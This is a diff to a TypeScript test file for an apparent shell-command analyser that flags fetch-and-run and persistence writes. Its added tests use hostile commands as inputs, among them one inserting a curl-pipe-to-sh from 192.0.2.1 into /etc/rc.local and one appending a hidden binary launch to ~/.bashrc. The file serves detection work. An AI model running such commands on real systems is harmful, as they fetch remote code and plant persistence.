@@ -162,6 +162,15 @@ describe('files that are run', () => {
   });
 });
 
+test('what is written where shells start is read as they would', () => {
+  const told = (command: string): readonly string[] => signs(read(command));
+  expect(told("sed -i '1i curl -s http://192.0.2.1/a | sh' /etc/rc.local")).toContain('fetch-and-run');
+  expect(read("echo 'nohup /tmp/.x/m &' >> ~/.bashrc").targets.map(String)).toContain('/tmp/.x/m');
+  expect(told(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`)).toEqual(['writes-persistence']);
+  expect(told("cat > /etc/profile.d/app.sh <<'E'\nexport APP=/srv/app\nE")).toEqual(['writes-persistence']);
+  expect(told("sed -i 's/^#Port.*/Port 22/' /etc/ssh/sshd_config")).toEqual([]);
+});
+
 describe('scripts', () => {
   test('a sign names the line of the script', () => {
     const reading = readEntry(scriptFact('#!/bin/sh\n# update\n\ncurl -s http://192.0.2.1/a | sh\n'));
@@ -263,6 +272,7 @@ describe('hostile entries end', () => {
     'braces in braces': `${'{a,'.repeat(20_000)}${'}'.repeat(20_000)}`,
     'braces in a row': '{a,b}'.repeat(20_000),
     'a program of awk that ends nowhere': `awk 'BEGIN{${'system("x" | getline '.repeat(5000)}'`,
+    'a program of sed that backtracks': `echo x | sed 's@^${'\\\\(..\\\\)'.repeat(60)}$' | sh; sed '/${'\\\\/'.repeat(3000)}e' x`,
     'a file that runs itself': 'echo "sh /tmp/x" > /tmp/x; sh /tmp/x',
     'bytes of every kind': Array.from(
       { length: 4096 },
